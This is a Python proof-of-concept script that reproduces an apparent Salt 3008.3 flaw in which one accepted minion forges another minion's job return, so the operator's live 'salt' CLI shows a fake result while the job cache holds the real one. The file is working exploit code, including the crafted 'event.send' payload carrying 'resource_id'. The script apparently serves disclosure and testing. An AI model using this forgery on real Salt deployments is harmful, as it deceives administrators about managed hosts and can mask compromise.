#!/usr/bin/env python3
"""
Minimal reproduction (Salt 3008.3): any accepted minion can forge another
minion's job return in the live ``salt`` CLI output.

    python tools/repro_forged_job_return.py MASTER_CONFIG_DIR ATTACKER_MINION_CONFIG_DIR VICTIM_ID [--sleep 30]

1. The operator runs ``salt VICTIM test.sleep N`` (the live CLI waits for
   ``salt/job/<jid>/ret/VICTIM`` events on the master bus).
2. The attacker minion learns the jid (every minion receives, and can decrypt,
   every publication; this script reads it off the master bus for brevity) and
   sends, with its own key and a plain ``salt-call event.send``:
   ``event.send salt/job/<jid>/ret/VICTIM preload='{"return": "FORGED", "resource_id": "VICTIM", ...}'``.
   ``masterapi._minion_event`` fires the single ``tag``/``data`` form on the
   master bus without the minion-tag blacklist (only the batched ``events``
   form is checked), and ``LocalClient.get_iter_returns`` attributes a return
   to ``data["resource_id"]`` when present, so the CLI prints the forged value
   for VICTIM and stops waiting.
3. ``salt-run jobs.lookup_jid <jid>`` (the job cache, filled only by the
   authenticated ``_return`` path) holds VICTIM's real return.

Prints one JSON object. Exit 0: reproduced (live CLI shows the forgery, the job
cache the truth); 2: not reproduced; 1: the run itself failed.
"""

import argparse
import fnmatch
import json
import pathlib
import subprocess
import sys
import time

import salt.config
import salt.utils.event

BIN = pathlib.Path(sys.executable).parent
FORGED = "FORGED by another minion"


def _wait_event(bus, pattern, deadline, match=lambda data: True):
    while time.time() < deadline:
        event = bus.get_event(wait=1, full=True)
        if event and fnmatch.fnmatch(event["tag"], pattern) and match(event["data"]):
            return event
    raise TimeoutError(f"no {pattern} event before the deadline")


def _json_objects(text):
    """The live CLI prints one JSON object per return as it arrives (not ``--static``: that is batch mode in 3008)."""
    merged, pos, decoder = {}, 0, json.JSONDecoder()
    text = text or ""
    while True:
        start = text.find("{", pos)
        if start < 0:
            return merged
        try:
            obj, pos = decoder.raw_decode(text, start)
        except json.JSONDecodeError:
            pos = start + 1
            continue
        if isinstance(obj, dict):
            merged.update(obj)


def _run_json(cmd, timeout):
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, check=False)
    try:
        return json.loads(proc.stdout or "null"), proc
    except json.JSONDecodeError:
        return None, proc


def reproduce(master_dir, attacker_dir, victim, sleep=30, timeout=180):
    """Run the three steps; returns what the live CLI, the bus and the job cache said."""
    master_dir, attacker_dir = str(master_dir), str(attacker_dir)
    opts = salt.config.client_config(str(pathlib.Path(master_dir) / "master"))
    deadline = time.time() + timeout
    with salt.utils.event.get_master_event(opts, opts["sock_dir"], listen=True) as bus:
        bus.connect_pub(timeout=30)  # listening before the job is published
        live = subprocess.Popen(  # 1. the operator's live CLI
            [str(BIN / "salt"), "-c", master_dir, "--out=json", victim, "test.sleep", str(sleep)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )
        try:
            pub = _wait_event(bus, "salt/job/*/new", deadline, lambda d: d.get("tgt") == victim and d.get("fun") == "test.sleep")
            jid = pub["data"]["jid"]
            forged = {"return": FORGED, "resource_id": victim, "jid": jid, "fun": "test.sleep", "retcode": 0, "success": True}
            sent = subprocess.run(  # 2. the attacker's plain event.send, with its own minion key
                [str(BIN / "salt-call"), "-c", attacker_dir, "--out=json", "event.send",
                 f"salt/job/{jid}/ret/{victim}", f"preload={json.dumps(forged)}"],
                capture_output=True, text=True, timeout=max(1, deadline - time.time()), check=False,
            )
            on_bus = _wait_event(bus, f"salt/job/{jid}/ret/{victim}", deadline, lambda d: d.get("return") == FORGED)
            out, err = live.communicate(timeout=max(1, deadline - time.time()))
        finally:
            if live.poll() is None:
                live.kill()
                live.wait()
    shown = _json_objects(out).get(victim, out)
    cached = None
    while time.time() < deadline:  # 3. the authenticated return path, once the real return is in
        data, _ = _run_json([str(BIN / "salt-run"), "-c", master_dir, "--out=json", "jobs.lookup_jid", jid], 120)
        if isinstance(data, dict) and victim in data:
            cached = data[victim]
            break
        time.sleep(1)
    return {
        "jid": jid,
        "attacker_event_send_rc": sent.returncode,
        "bus_event": {"tag": on_bus["tag"], "sender_id": on_bus["data"].get("id"), "return": on_bus["data"].get("return")},
        "live_cli": shown,
        "live_cli_stderr": err.strip()[-500:],
        "job_cache": cached,
        "reproduced": shown == FORGED and cached is True,
    }


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("master_config_dir")
    parser.add_argument("attacker_minion_config_dir")
    parser.add_argument("victim")
    parser.add_argument("--sleep", type=int, default=30, help="seconds the victim's real job takes")
    parser.add_argument("--timeout", type=int, default=180)
    args = parser.parse_args(argv)
    try:
        result = reproduce(args.master_config_dir, args.attacker_minion_config_dir, args.victim, args.sleep, args.timeout)
    except (TimeoutError, subprocess.TimeoutExpired, OSError) as exc:
        print(json.dumps({"error": str(exc)}))
        return 1
    print(json.dumps(result))
    return 0 if result["reproduced"] else 2


if __name__ == "__main__":
    sys.exit(main())
